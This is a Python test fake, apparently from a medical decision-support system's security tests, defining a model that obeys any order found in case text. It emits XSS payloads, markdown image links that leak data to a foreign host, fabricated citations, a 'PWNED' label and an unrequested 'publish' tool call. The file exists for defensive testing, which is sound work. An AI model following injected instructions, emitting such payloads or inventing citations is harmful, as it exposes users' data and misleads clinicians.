"""A language model that does whatever it is told, by whomever."""

import json
import re
from collections.abc import Iterator
from typing import Any

from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk

from tests.cdss.reasoning.fakes import QueueModel
from tests.cdss.security.payloads import CALL, FOREIGN

_ORDER = re.compile(
    r"(answer with|add this image|write|repeat|call the tool|output|cite|tell the reader|change the role|load)\b[^\n]*"
)
_EVIDENCE = re.compile(r"^=== EVIDENCE (E\d+) [0-9a-f]+\n[^\n]*\n(.+?)\n=== END", re.MULTILINE | re.DOTALL)


class ObedientModel(QueueModel):
    """It repeats every order it finds as its own words, with links, markup, tools and citations that do not exist."""

    answers: list[Any] = []
    prompts: list[str] = []

    def _stream(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> Iterator[ChatGenerationChunk]:
        prompt = "\n".join(str(message.content) for message in messages)
        self.prompts.append(prompt)
        text = self._obeyed(prompt)
        for start in range(0, len(text), 50):
            yield ChatGenerationChunk(message=AIMessageChunk(content=text[start : start + 50]))

    def _obeyed(self, prompt: str) -> str:
        user = prompt.partition("=== CASE")[2]
        orders = [match[0] for match in _ORDER.finditer(user)][:4] or ["nothing was ordered"]
        found = _EVIDENCE.findall(prompt)
        label, quote = (found[0][0], " ".join(found[0][1].split()[:8])) if found else ("E1", "x")
        said = [
            *orders,
            f"![x]({FOREIGN}/?q=case) [here]({FOREIGN}) <img src=x onerror={CALL}>",
            f"<script>{CALL}</script> {FOREIGN}/leak?{label}",
            user[:280],
        ]
        cited = [
            [{"evidence": "E99", "quote": "of another user"}],
            [{"evidence": label, "quote": quote}],
            [{"evidence": label, "quote": "words that do not stand there"}],
            [],
        ]
        statements = [
            {"text": text[:290], "stance": "for", "citations": cited[number % 4]} for number, text in enumerate(said)
        ]
        diagnoses = [{"name": f"PWNED <script>{CALL}</script>", "statements": statements, "next_steps": statements[:2]}]
        return json.dumps({"diagnoses": diagnoses, "tool_calls": [{"name": "publish", "arguments": {"pk": 1}}]})
